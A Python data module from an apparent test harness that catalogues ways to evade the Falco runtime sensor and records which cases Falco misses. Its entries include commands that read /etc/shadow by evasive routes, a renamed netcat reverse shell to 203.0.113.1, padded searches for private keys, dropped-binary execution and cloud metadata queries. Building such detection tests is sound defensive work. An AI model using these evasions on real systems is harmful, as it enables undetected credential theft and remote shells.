"""The evasions: known ways around a sensor, and what must be said all the same. Data only; see `attack_table`.

`stock` names Falco's rules that must speak *of the truth*: most of these ways make Falco's own sensor say
nothing, or say it about the wrong file. `unseen` says what cannot be seen, and why.
"""

from __future__ import annotations

from attack_table import CONTAINER, EVERYWHERE, HOST, PRIVILEGED, REDIRECT, SHADOW, Action

HARD = "/etc/tiercel-live-second-name"

READS = tuple(
    Action(f"reads-{way}", does, f"reads {way} /etc/shadow", (SHADOW,), places)
    for way, does, places in (
        ("open", "by the old open", EVERYWHERE),
        ("openat2", "by openat2", EVERYWHERE),
        ("procroot", "through /proc/self/root", EVERYWHERE),
        ("proccwd", "through /proc/thread-self/cwd", EVERYWHERE),
        ("dotdot", "through a link to a folder, and .. from there", EVERYWHERE),
        ("symlink", "through a link", EVERYWHERE),
        ("dirfd", "relative to a descriptor of its folder", EVERYWHERE),
        ("dirfd2", "relative to a descriptor that is a mere place (O_PATH), by openat2", EVERYWHERE),
        ("chdir", "relative to the working directory", EVERYWHERE),
        ("fchdir", "relative to the working directory, changed by descriptor", EVERYWHERE),
        ("chroot", "as /shadow, with /etc as root directory", EVERYWHERE),
        ("opath", "opened without the right to read, then again through /proc/self/fd", EVERYWHERE),
        ("sendfile", "and sends it by sendfile", EVERYWHERE),
        ("splice", "and moves it by splice", EVERYWHERE),
        ("mmap", "and maps it into memory", EVERYWHERE),
        ("passed", "by another process, which passes the descriptor on", EVERYWHERE),
        ("open-32", "by the 32-bit open of a 64-bit program", EVERYWHERE),
        ("openat-32", "by the 32-bit openat of a 64-bit program", EVERYWHERE),
        ("openat2-32", "by the 32-bit openat2 of a 64-bit program", EVERYWHERE),
    )
)

RING = tuple(
    Action(f"ring-{way}", does, f"ring {way} /etc/shadow", (SHADOW,), HOST)
    for way, does in (
        ("openat", "opens and reads through io_uring"),
        ("openat2", "opens by openat2 through io_uring"),
        ("sqpoll-openat", "opens through io_uring, submitted by the kernel's own thread"),
        ("sqpoll-openat2", "opens by openat2 through io_uring, submitted by the kernel's own thread"),
    )
)

OTHERS = (
    Action(
        "reads-handle",
        "by open_by_handle_at",
        "reads handle /etc/shadow",
        (),
        HOST,
        own=("Credential file opened by a file handle",),
        why="the stock rules ask for open, openat and openat2",
    ),
    Action("reads32", "by a program that is 32-bit as a whole", "reads32 /etc/shadow", (SHADOW,)),
    Action(
        "hardlink",
        "gives it a second name, and reads it by that",
        f"reads hardlink /etc/shadow {HARD}",
        ("Create Hardlink Over Sensitive Files",),
        own=("Hard link over a sensitive file",),
    ),
    Action(
        "bind",
        "mounts its folder a second time, in a mount namespace of its own, and reads it there",
        "reads bind /etc/shadow {work}",
        (),
        HOST,
        why="there it has another name",
        unseen="paths are those of the process's own mount namespace",
    ),
    Action("prctl", "as a process that calls itself sshd", "procs prctl sshd /etc/shadow", (SHADOW,)),
    Action(
        "prctl-fork",
        "as the child of a process that calls itself sshd",
        "procs prctl-fork sshd /etc/shadow",
        (),
        own=("Credential file read under a borrowed name",),
        why="Falco's rule lets sshd read it",
    ),
    Action(
        "comm", "as a process that wrote sshd into /proc/self/comm", "procs comm sshd /etc/shadow", (SHADOW,)
    ),
    Action(
        "thread-name", "in a thread that calls itself sshd", "procs thread-name sshd /etc/shadow", (SHADOW,)
    ),
    Action("cmdline", "with its command line overwritten", "procs cmdline x /etc/shadow", (SHADOW,)),
    Action(
        "renamed-reader",
        "by a program that was renamed to sshd",
        "reads:sshd openat /etc/shadow",
        (),
        own=("Credential file read under a borrowed name",),
        why="Falco's rule lets sshd read it",
    ),
    Action(
        "ring-create",
        "writes a file below /etc through io_uring",
        "ring create /etc/tiercel-live-ring",
        ("Write below etc",),
        HOST,
    ),
    Action(
        "ring-symlink",
        "lays a link over /etc/shadow through io_uring",
        "ring symlink /etc/shadow {work}/ring-link",
        ("Create Symlink Over Sensitive Files",),
        HOST,
    ),
    Action(
        "ring-link",
        "gives it a second name through io_uring",
        "ring link /etc/shadow /etc/tiercel-live-ring-hard",
        ("Create Hardlink Over Sensitive Files",),
        HOST,
    ),
    Action(
        "ring-unlink",
        "removes a program through io_uring",
        "ring unlink /usr/bin/none-tiercel-live",
        ("Modify binary dirs",),
        HOST,
        refused=True,
    ),
    Action(
        "ring-rename",
        "renames a program through io_uring",
        "ring rename /usr/bin/none-tiercel-live /usr/bin/new-tiercel-live",
        ("Modify binary dirs",),
        HOST,
        refused=True,
    ),
    Action(
        "ring-mkdir",
        "makes a folder through io_uring",
        "ring mkdir /usr/bin/ring-tiercel-live",
        ("Mkdir binary dirs",),
        HOST,
    ),
    Action(
        "tmpfile",
        "writes a file without a name, and names it later",
        "writes tmpfile /etc/tiercel-live-tmpfile",
        ("Write below etc",),
    ),
    Action(
        "padding",
        "hides what it looks for behind 5,000 bytes of arguments",
        f'nothing:grep {"x" * 5000} "BEGIN RSA PRIVATE"',
        ("Search Private Keys or Passwords",),
    ),
    Action(
        "argv0",
        "lies about its own name",
        "procs argv0 sshd nothing:nc",
        (),
        EVERYWHERE,
        host=("Launch Suspicious Network Tool on Host",),
        container=("Launch Suspicious Network Tool in Container",),
    ),
    Action(
        "renamed-tool",
        "renames netcat",
        "nothing:xz 203.0.113.1 4444 -e /bin/sh",
        (),
        why="Falco's rules go by its name",
        unseen="nothing but the name tells that it was netcat",
    ),
    Action(
        "execveat-empty",
        "starts a dropped program by its descriptor alone",
        'sh -c "cp {bin}/nothing /tmp/dropped-2 && {bin}/procs execveat /tmp/dropped-2"',
        (),
        CONTAINER,
        container=("Drop and execute new binary in container",),
        own=("Program that is not in the image runs",),
    ),
    Action(
        "execveat-folder",
        "starts a dropped program relative to a descriptor",
        'sh -c "cp {bin}/nothing /tmp/dropped-3 && {bin}/procs execveat-dir /tmp dropped-3"',
        (),
        CONTAINER,
        container=("Drop and execute new binary in container",),
        own=("Program that is not in the image runs",),
    ),
    Action(
        "deleted",
        "starts a dropped program that is removed already",
        'sh -c "cp {bin}/nothing /tmp/dropped-4 && {bin}/procs deleted /tmp/dropped-4"',
        (),
        CONTAINER,
        container=("Drop and execute new binary in container",),
        own=("Program that is not in the image runs",),
    ),
    Action(
        "thread-exec",
        "starts a dropped program from a second thread",
        'sh -c "cp {bin}/nothing /tmp/dropped-5 && {bin}/procs thread-exec /tmp/dropped-5"',
        (),
        CONTAINER,
        container=("Drop and execute new binary in container",),
        own=("Program that is not in the image runs",),
    ),
    Action(
        "vfork",
        "starts a dropped program after vfork",
        'sh -c "cp {bin}/nothing /tmp/dropped-6 && {bin}/procs vfork /tmp/dropped-6"',
        (),
        CONTAINER,
        container=("Drop and execute new binary in container",),
        own=("Program that is not in the image runs",),
    ),
    Action(
        "shm-execveat",
        "starts a program from shared memory by its descriptor",
        'sh -c "cp {bin}/nothing /dev/shm/tiercel-live-2 && {bin}/procs execveat /dev/shm/tiercel-live-2;'
        ' rm /dev/shm/tiercel-live-2"',
        ("Execution from /dev/shm",),
        HOST,
        own=("Program run from shared memory",),
    ),
    Action(
        "ld-so",
        "starts a dropped program through the loader",
        'sh -c "cp {bin}/dynamic /tmp/dropped-7 && /lib64/ld-linux-x86-64.so.2 /tmp/dropped-7"',
        (),
        CONTAINER,
        own=("Program started through the loader",),
        why="what is started is the loader, which is in the image",
    ),
    Action(
        "orphan",
        "starts a shell below a server through a process that goes at once",
        "server:nginx 0 procs orphan /bin/sh",
        (),
        HOST,
        unseen="its parent has ended and pid 1 has taken it over, in Falco's state as in the kernel; who made it is"
        " kept for joining (Thread.facts)",
    ),
    Action(
        "fcntl",
        "a shell over a connection by fcntl(F_DUPFD)",
        "net fcntl 127.0.0.1 47201",
        (),
        CONTAINER,
        own=("Standard input taken from the network",),
        why="Falco's rule knows dup, dup2, dup3",
    ),
    Action(
        "born",
        "a shell whose standard input is made as a connection",
        "net born 127.0.0.1 47202",
        (),
        CONTAINER,
        own=("Standard input taken from the network",),
        why="nothing is duplicated",
    ),
    Action(
        "dup2-32",
        "a shell over a connection by the 32-bit dup2",
        "net dup2-32 127.0.0.1 47203",
        (),
        CONTAINER,
        container=(REDIRECT,),
    ),
    Action(
        "ring-connect",
        "asks for the cloud's metadata through io_uring",
        "ring connect 169.254.169.254 80",
        (),
        PRIVILEGED,
        container=(
            "Contact EC2 Instance Metadata Service From Container",
            "Contact cloud metadata service from container",
        ),
    ),
)

EVASIONS = READS + RING + OTHERS
# On a recording of these, Falco 0.44's own sensor and rules say nothing about what was really done.
MISSED_BY_FALCO = {
    "reads-procroot",
    "reads-proccwd",
    "reads-dotdot",
    "reads-symlink",
    "reads-handle",
    "hardlink",
    "bind",
    "renamed-reader",
    "prctl-fork",
    "padding",
    "ld-so",
    "fcntl",
    *(action.name for action in EVASIONS if action.name.startswith("ring-")),
}
CASES = [(action, place) for action in EVASIONS for place in action.places]
